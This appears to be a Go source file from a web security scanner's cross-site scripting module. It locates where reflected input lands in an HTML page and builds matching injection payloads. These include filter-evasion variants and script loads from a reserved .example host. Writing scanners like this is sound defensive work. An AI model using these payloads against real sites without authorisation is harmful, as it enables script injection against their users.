package xss

import (
	"bytes"
	"fmt"
	"slices"
	"strings"

	"golang.org/x/net/html"

	"merlon/internal/engine/dast/message"
)

// This file tells where in a page a word stands, and what leaves that place.

// A kind is a kind of context: each is left by other characters.
type kind int

const (
	inText      kind = iota // between tags
	inRaw                   // in an element whose content is text: textarea, title, style, …
	inComment               // in a comment
	inAttribute             // in the value of an attribute
	inAddress               // at the beginning of an attribute that is an address
	inHandler               // in the script of an event handler
	inScript                // in an element script
	inTag                   // in a tag, outside of values
	inStyle                 // in a style
)

// A context is where in a page a value appears. It is comparable, so that each is tried once.
type context struct {
	kind kind
	// The element in small letters: that of the attribute, or whose text it is; empty between tags.
	element string
	// The name of the attribute in small letters; empty outside of attributes.
	name string
	// The quote around the attribute's value; 0: none, so that a space ends it.
	quote byte
	// In script: the quote of the string, '/' in a comment to the end of the line, '*' in a block
	// comment, '`' in a template, 'r' in a regular expression, 0 in code.
	state byte
	// The script is a javascript: address, in which percent-encoding is decoded before it runs.
	address bool
	// The page is XML, which has to stay well-formed for a browser to show it.
	xml bool
}

// describeContext describes the context for the report.
func (c context) describeContext() string {
	switch c.kind {
	case inRaw:
		return "in the text of <" + c.element + ">"
	case inComment:
		return "in a comment of the page"
	case inAttribute, inAddress:
		return fmt.Sprintf("in the attribute %s of <%s>", c.name, c.element)
	case inHandler:
		return fmt.Sprintf("in the event handler %s of <%s>", c.name, c.element)
	case inScript:
		if c.state == '\'' || c.state == '"' {
			return "in a string of a script"
		}
		return "in a script"
	case inTag:
		return "in a tag"
	case inStyle:
		return "in a style"
	}
	return "between the tags of the page"
}

// addressed are attributes that a browser requests or opens: a javascript: address runs in some of
// them. srcdoc is listed as false because its value is a page, not an address.
var addressed = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "data": true,
	"xlink:href": true, "srcdoc": false}

// foreign maps elements to the attribute whose address decides what runs in the page or where its
// forms send data, so that an address of another host is a vulnerability of its own.
var foreign = map[string]string{"script": "src", "base": "href", "form": "action", "iframe": "src", "embed": "src",
	"object": "data", "link": "href"}

// rawText are elements whose content is no markup (HTML, section 13.2.5.2 to 13.2.5.5): only their
// own end tag leaves them. noscript is one where script runs.
var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "noscript": true, "xmp": true,
	"iframe": true, "noembed": true, "noframes": true, "plaintext": true}

// findContexts returns the contexts of the word in the page, each once, in the order of the page.
// The tokenizer is used and not the tree: the tree moves and drops what stands in a wrong location.
func findContexts(resp *message.Response, word string) []context {
	var out []context
	add := func(c context) {
		c.xml = isXML(resp)
		for _, known := range out {
			if known == c {
				return
			}
		}
		out = append(out, c)
	}
	z := html.NewTokenizer(strings.NewReader(strings.ToLower(resp.Text())))
	open := "" // the raw element that is open
	for {
		switch z.Next() {
		case html.ErrorToken:
			return out
		case html.TextToken:
			raw := string(z.Raw())
			if !strings.Contains(raw, word) {
				continue
			}
			for _, c := range contextsInText(raw, open, word) {
				add(c)
			}
		case html.CommentToken:
			if strings.Contains(string(z.Raw()), word) {
				add(context{kind: inComment})
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			raw := string(z.Raw())
			name, _ := z.TagName()
			element := string(name)
			if rawText[element] || element == "script" {
				open = element
			}
			if strings.Contains(strings.ToLower(raw), word) {
				for _, c := range contextsInTag(raw, element, word) {
					add(c)
				}
			}
		// The tokenizer consumes raw text up to its end tag, so the next one closes it.
		case html.EndTagToken:
			open = ""
		}
	}
}

// contextsInText returns the contexts of the word in a text. element is the open element whose
// content is no markup; empty for all others.
func contextsInText(raw, element, word string) []context {
	switch {
	case element == "script":
		var out []context
		for _, state := range scriptStates(raw, word) {
			out = append(out, context{kind: inScript, element: element, state: state})
		}
		return out
	// A style is left by its end tag, or by a rule within it.
	case element == "style":
		return []context{{kind: inRaw, element: element}, {kind: inStyle, element: element}}
	case rawText[element]:
		return []context{{kind: inRaw, element: element}}
	}
	return []context{{kind: inText}}
}

// contextsInTag returns the contexts of the word in a tag, which may contain it several times.
func contextsInTag(raw, element, word string) []context {
	var out []context
	for from := 0; ; {
		i := strings.Index(strings.ToLower(raw[from:]), word)
		if i < 0 {
			return out
		}
		i += from
		from = i + len(word)
		name, quote, start, ok := attributeAt(raw, i)
		value := ""
		if ok {
			value = strings.TrimSpace(html.UnescapeString(raw[start:i]))
		}
		switch {
		case !ok:
			out = append(out, context{kind: inTag, element: element})
		// Entities are decoded before the script of a handler runs, so &#39; ends a string.
		case strings.HasPrefix(name, "on"):
			text := html.UnescapeString(raw[start:])
			for _, state := range scriptStates(text[:min(len(text), len(value)+len(word)+1)], word) {
				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state})
			}
		// The value is the beginning of the address, so it decides the scheme.
		case addressed[name] && value == "":
			out = append(out, context{kind: inAddress, element: element, name: name, quote: quote})
		// href="javascript:show('WORD')": script in an address.
		case addressed[name] && strings.HasPrefix(strings.ToLower(value), "javascript:"):
			for _, state := range scriptStates(strings.TrimSpace(html.UnescapeString(raw[start:i+len(word)])), word) {
				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state,
					address: true})
			}
		default:
			out = append(out, context{kind: inAttribute, element: element, name: name, quote: quote})
			if name == "style" {
				out = append(out, context{kind: inStyle, element: element, name: name, quote: quote})
			}
		}
	}
}

// spaces are the characters that separate attributes in HTML (section 13.2.5.32 and following).
const spaces = " \t\n\r\f"

// skipAny returns the index of the first byte from i on that is not in the set.
func skipAny(raw string, i int, set string) int {
	for i < len(raw) && strings.IndexByte(set, raw[i]) >= 0 {
		i++
	}
	return i
}

// skipUntil returns the index of the first byte from i on that is in the set.
func skipUntil(raw string, i int, set string) int {
	for i < len(raw) && strings.IndexByte(set, raw[i]) < 0 {
		i++
	}
	return i
}

// attributeAt returns the attribute in whose value the offset of a tag is, the quote around it, and
// where the value begins, by the states of the HTML standard, section 13.2.5.32 to 13.2.5.39. Not
// ok: the offset is in a name, or between attributes.
func attributeAt(raw string, offset int) (name string, quote byte, start int, ok bool) {
	i := skipUntil(raw, 1, spaces+"/>")
	for i < len(raw) {
		i = skipAny(raw, i, spaces+"/")
		begin := i
		i = skipUntil(raw, i, spaces+"=>/")
		name = strings.ToLower(raw[begin:i])
		if offset < i {
			return "", 0, 0, false
		}
		i = skipAny(raw, i, spaces)
		if i >= len(raw) || raw[i] != '=' {
			if i >= len(raw) || raw[i] == '>' || i == begin {
				return "", 0, 0, false
			}
			continue
		}
		if i = skipAny(raw, i+1, spaces); i >= len(raw) {
			return "", 0, 0, false
		}
		quote, start = 0, i
		if raw[i] == '"' || raw[i] == '\'' {
			quote, start = raw[i], i+1
			end := strings.IndexByte(raw[start:], quote)
			// The quote is never closed: the value goes on to the end of the page.
			if end < 0 {
				return name, quote, start, offset >= start
			}
			i = start + end + 1
		} else {
			i = skipUntil(raw, i, spaces+">")
		}
		if offset >= start && offset < i {
			return name, quote, start, true
		}
	}
	return "", 0, 0, false
}

// isSpace reports whether a character separates attributes.
func isSpace(c byte) bool { return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' }

// scriptStates returns the states of a script in which the word appears, each once.
func scriptStates(script, word string) []byte {
	var out []byte
	var at scriptPosition
	for i := 0; i < len(script); i++ {
		if strings.HasPrefix(script[i:], word) {
			if bytes.IndexByte(out, at.state) < 0 {
				out = append(out, at.state)
			}
			// The word is an operand: a slash behind it divides.
			i += len(word) - 1
			at.last = 'w'
			continue
		}
		next := byte(0)
		if i+1 < len(script) {
			next = script[i+1]
		}
		i += at.advance(script[i], next)
	}
	return out
}

// A scriptPosition is the state of a small lexer of JavaScript: in code (0), in a string by its
// quote, in a comment ('/' to the end of the line, '*'), or in a regular expression ('r'). A parser
// would stop at the values that the page puts into the script.
type scriptPosition struct {
	state byte
	// The last byte of code that is no space: a slash behind an operator begins a regular
	// expression.
	last byte
}

// advance reads one character and returns how many more belong to it.
func (p *scriptPosition) advance(c, next byte) int {
	switch p.state {
	case 0:
		return p.advanceCode(c, next)
	case '/':
		if c == '\n' {
			p.state = 0
		}
	case '*':
		if c == '*' && next == '/' {
			p.state = 0
			return 1
		}
	default:
		switch {
		case c == '\\':
			return 1
		case c == p.state || p.state == 'r' && c == '/':
			p.state, p.last = 0, 'w'
		// A line end within a string is an error of syntax; the browser skips the script up to
		// there.
		case c == '\n' && p.state != '`':
			p.state = 0
		}
	}
	return 0
}

// advanceCode reads one character of code: it may begin a string, a comment or a regular
// expression.
func (p *scriptPosition) advanceCode(c, next byte) int {
	more := 0
	switch {
	case c == '\'' || c == '"' || c == '`':
		p.state = c
	case c == '/' && (next == '/' || next == '*'):
		p.state = next
		more = 1
	case c == '/' && strings.IndexByte("(,=:[!&|?{};+\x00", p.last) >= 0:
		p.state = 'r'
	}
	if !isSpace(c) {
		p.last = c
	}
	return more
}

// payloadsFor returns values that leave the context, the likeliest first. Each calls the word as a
// function: nothing else in the page does, so a call of it proves the script. The later values
// evade filters that remove words, letters or spaces.
func (c context) payloadsFor(word string) []string {
	call := word + "(1)"
	if c.xml {
		return c.xmlPayloads(call)
	}
	tags := []string{"<svg onload=" + call + ">", "<img\nsrc=x\nonerror=" + call + "\n>", "<script>" + call +
		"</script>", "<ScRiPt>" + call + "</sCrIpT>", "<svg/onload=" + call + "//",
		"<a href=javascript:" + call + ">x</a>", "<scr<script>ipt>" + call + "</scr</script>ipt>"}
	switch c.kind {
	case inText:
		return tags
	case inRaw:
		return prefixAll("</"+c.element+">", tags[:5]...)
	case inComment:
		return append(prefixAll("-->", tags[:4]...), "--!>"+tags[0])
	case inStyle:
		return []string{"x;" + word + ":1;x:x", word + ":1;x", "x{}" + word + "{" + word + ":1}x", "x]{" + word +
			":1}x[x", "\"]{" + word + ":1}x[x=\"", "x}" + word + "{" + word + ":1}x{x"}
	case inAddress:
		return c.addressPayloads(word, call)
	case inAttribute:
		if c.element == "iframe" && c.name == "srcdoc" {
			c.name = ""
			return append(tags[:3:3], c.payloadsFor(word)...) // the value is a page
		}
		return c.attributePayloads(call)
	case inTag:
		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "><svg onload=" + call + ">"}
	case inScript:
		return append(c.codePayloads(call), "</script><svg onload="+call+">", "</script><script>"+call+"</script>")
	case inHandler:
		return c.handlerPayloads(word, call)
	}
	return nil
}

// prefixAll puts a text before each value.
func prefixAll(prefix string, list ...string) []string {
	out := make([]string, len(list))
	for i, s := range list {
		out[i] = prefix + s
	}
	return out
}

// addressPayloads returns javascript: addresses where the attribute is followed, addresses of
// another host where it is loaded, and values that leave the attribute. The spellings are those
// that the URL parser accepts: capitals, tabs inside of the scheme, entities.
func (c context) addressPayloads(word, call string) []string {
	leave := context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloadsFor(word)
	// The top-level domain example is reserved (RFC 2606): nothing is ever loaded from it.
	other := "//" + word + ".example/"
	switch {
	case c.element == "script" || c.element == "base":
		return append([]string{other}, leave...)
	case foreign[c.element] == c.name:
		return append([]string{"javascript:" + call + "//", other}, leave...)
	}
	return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//",
		"javascript://%0a" + call + "//",
		"javasc&#114;ipt:" + call + "//http://", "javascrscriptipt:" + call + "//"}, leave...)
}

// attributePayloads returns values that end the attribute by its quote, or by a space where it has
// none, and add an event handler or an element. autofocus and tabindex make onfocus run without the
// user.
func (c context) attributePayloads(call string) []string {
	if c.quote == 0 {
		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">",
			"x\fonfocus=" + call + "\fautofocus\ftabindex=1\f"}
	}
	q := string(c.quote)
	return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q,
		q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
		q + "><img src=x onerror=" + call + ">", q + "><a href=javascript:" + call + ">x</a>", q + " ONFOCUS=" +
			call + " AUTOFOCUS TABINDEX=1 X=" + q,
		q + " oonnfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><scrscriptipt>" + call + "</scrscriptipt>"}
}

// handlerPayloads returns values that leave a string in the script of an event handler, and values
// that leave the attribute.
func (c context) handlerPayloads(word, call string) []string {
	list := c.codePayloads(call)
	// %27 becomes a quote when the address is opened, after all filters.
	if c.address { // what is encoded twice is decoded when it runs
		escape := strings.NewReplacer("'", "%27", `"`, "%22", "`", "%60")
		for _, p := range c.codePayloads(call)[:min(2, len(list))] {
			list = append(list, escape.Replace(p))
		}
	}
	return append(list, context{kind: inAttribute, element: c.element, name: c.name,
		quote: c.quote}.payloadsFor(word)...)
}

// evasions are parts of values that write what an earlier value says in another way, against
// filters that remove words, letters or spaces. They are left out where nothing is filtered. A new
// evasion in payloadsFor needs a row here.
var evasions = []string{"JaVaScRiPt:", "java\tscript:", "javasc&#114;ipt:", "scrscriptipt", "<ScRiPt>", "<scr<script>",
	"oonn", "ONFOCUS", "\fonfocus", "/onfocus", "%27", "%22", "%60"}

// isEvasion reports whether a value is an evasion.
func isEvasion(payload string) bool {
	return slices.ContainsFunc(evasions, func(e string) bool { return strings.Contains(payload, e) })
}

// xmlPayloads returns values that become an element script of XHTML in an XML document and leave it
// well-formed; a browser shows nothing else of a document with an error. Without a quote it is
// none.
func (c context) xmlPayloads(call string) []string {
	element := `<x:script xmlns:x="` + xhtml + `">` + call + `</x:script>`
	q := string(c.quote)
	switch c.kind {
	case inAttribute, inAddress, inHandler:
		if c.quote == 0 {
			return nil
		}
		element = strings.ReplaceAll(element, `"`, q)
		return []string{q + "/>" + element + "<x y=" + q, q + ">" + element + "<x y=" + q}
	case inTag:
		return nil
	}
	return []string{element, "]]>" + element + "<![CDATA["}
}

// anyTags returns values against filters that let some elements or attributes through: each has
// another element, and another event or address that runs it. The last ones run no script, but load
// another host's content or set a style.
func anyTags(word string) []string {
	call := word + "(1)"
	return []string{
		"<img src=x onerror=" + call + ">", "<svg onload=" + call + ">", "<script>" + call + "</script>",
		"<a href=javascript:" + call + ">x</a>",
		"<div onmouseover=" + call + ">x</div>", "<iframe src=javascript:" + call + "></iframe>", "<body onload=" +
			call + ">",
		"<details open ontoggle=" + call + ">x</details>", "<input onfocus=" + call + " autofocus>",
		"<video src=x onerror=" + call + "></video>",
		"<form action=javascript:" + call + "><input type=submit></form>", "<x onfocus=" + call +
			" autofocus tabindex=1>x</x>",
		`<iframe srcdoc="&lt;svg onload=` + call + `&gt;"></iframe>`, "<svg><animate onbegin=" + call +
			" attributeName=x dur=1s></svg>",
		"<b onclick=" + call + ">x</b>", "<img src=x onerror=" + word + "`1`>", "<img src=x onerror=" + word +
			"&lpar;1&rpar;>",
		"<scrscriptipt>" + call + "</scrscriptipt>", "<img src=x oonnerror=" + call + ">", "<IMG SRC=x ONERROR=" +
			call + ">",
		"<script src=//" + word + ".example/></script>", "<style>x{" + word + ":1}</style>", "<div style=" + word +
			":1>x</div>", "<a style=" + word + ":1>x</a>",
		"<meta http-equiv=refresh content=0;url=//" + word + ".example/>",
	}
}

// codePayloads returns values that leave the state of a script: the quote of the string, the end of
// the comment, then brackets that are open around it. "\" before the quote defeats applications
// that escape quotes and not backslashes.
func (c context) codePayloads(call string) []string {
	q := string(c.state)
	switch c.state {
	case '\'', '"':
		return []string{q + "-" + call + "-" + q, q + ";" + call + ";//", `\` + q + "-" + call + "//", `\` + q + ";" +
			call + ";//", q + ");" + call + ";//", q + "});" + call + ";//", q + "};" + call + ";//"}
	case '`':
		return []string{"${" + call + "}", "`-" + call + "-`"}
	case '/':
		// JavaScript ends lines at U+2028 too (ECMA-262, section 12.3).
		return []string{"\n" + call + "//", "\r" + call + "//", "\u2028" + call + "//"}
	case '*':
		return []string{"*/" + call + "/*", "*/;" + call + ";/*"}
	case 'r':
		return []string{"/;" + call + ";/", "/-" + call + "-/"}
	}
	return []string{call, "1;" + call, "1-" + call, ";" + call + ";//", "1);" + call + ";//", "1});" + call + ";//"}
}

// isEscaped reports whether the response shows that nothing can leave the context: wherever the
// word comes back, the character that had to come through is encoded, or removed from a text. In
// scripts, handlers and styles no single character decides.
func (c context) isEscaped(resp *message.Response, word, payload string) bool {
	special := "<"
	switch c.kind {
	case inAttribute, inAddress, inTag:
		if c.quote == 0 || c.kind == inAddress && payload[0] != c.quote {
			return false
		}
		special = string(c.quote)
	case inScript, inHandler, inStyle:
		return false
	}
	text := resp.Text()
	if !strings.Contains(text, word) {
		return false
	}
	if c.kind == inText && strings.Contains(text, strings.NewReplacer("<", "", ">", "").Replace(payload)) {
		return !strings.Contains(text, payload)
	}
	for i := 0; ; {
		next := strings.Index(text[i:], word)
		if next < 0 {
			return true
		}
		// The encoded character is before the word in each value; sixty bytes cover the longest.
		before := strings.ToLower(text[max(0, i+next-60) : i+next])
		encoded := false
		for _, form := range encodings[special] {
			encoded = encoded || strings.Contains(before, form)
		}
		if !encoded {
			return false
		}
		i += next + len(word)
	}
}

// encodings maps a character to the forms in which it is harmless in markup: entities of HTML by
// name and number, percent-encoding, and the escapes of JSON and JavaScript.
var encodings = map[string][]string{
	"<": {"&lt;", "&#60;", "&#x3c;", "%3c", `\u003c`, `\x3c`},
	`"`: {"&quot;", "&#34;", "&#x22;", "%22", `\u0022`, `\x22`},
	"'": {"&#39;", "&#039;", "&#x27;", "&apos;", "%27", `\u0027`, `\x27`},
}
